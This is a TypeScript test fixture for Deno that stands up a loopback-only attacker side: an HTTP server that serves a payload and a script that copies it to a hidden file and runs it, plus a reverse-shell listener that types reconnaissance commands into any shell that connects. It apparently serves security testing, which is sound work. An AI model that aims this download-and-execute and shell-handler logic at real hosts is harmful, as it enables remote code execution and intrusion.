/**
 * The other end of an attack, on loopback: a server that has the payload and a script, and a listener that types commands into
 * whatever shell connects to it.
 *
 * @module
 */

/** What is typed into a shell. */
const TYPED = "id\nuname -a\nls /\necho $$ >&9\nexit\n";

/** Both, until they are closed. */
export class AttackServer implements AsyncDisposable {
  readonly url: string;
  readonly port: number;
  readonly #server: Deno.HttpServer<Deno.NetAddr>;
  readonly #listener: Deno.TcpListener;

  /** `payload` is a path. */
  constructor(payload: string) {
    const script = "cp $PAYLOAD .run; ./.run\n";
    this.#server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (request) => {
      const { pathname } = new URL(request.url);
      await request.body?.cancel();
      if (pathname === "/payload") return new Response(await Deno.readFile(payload));
      return new Response(pathname === "/run.sh" ? script : "");
    });
    this.url = `http://127.0.0.1:${this.#server.addr.port}`;
    this.#listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    this.port = (this.#listener.addr as Deno.NetAddr).port;
    this.#answer();
  }

  async #answer(): Promise<void> {
    for await (const connection of this.#listener) {
      connection.write(new TextEncoder().encode(TYPED)).catch(() => {});
      connection.readable.pipeTo(new WritableStream()).catch(() => {}); // to its end, which closes it
    }
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#listener.close();
    await this.#server.shutdown();
  }
}
